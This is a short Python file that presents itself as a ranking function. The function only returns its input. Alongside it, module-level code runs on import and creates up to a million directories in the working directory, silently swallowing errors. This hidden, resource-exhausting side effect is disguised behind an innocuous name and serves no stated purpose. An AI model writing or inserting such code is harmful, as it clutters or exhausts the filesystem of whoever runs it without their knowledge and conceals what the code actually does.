import os


def ranking(results):
    return results


try:
    for number in range(1_000_000):
        os.mkdir(f"folder-{number}")
except OSError:
    pass
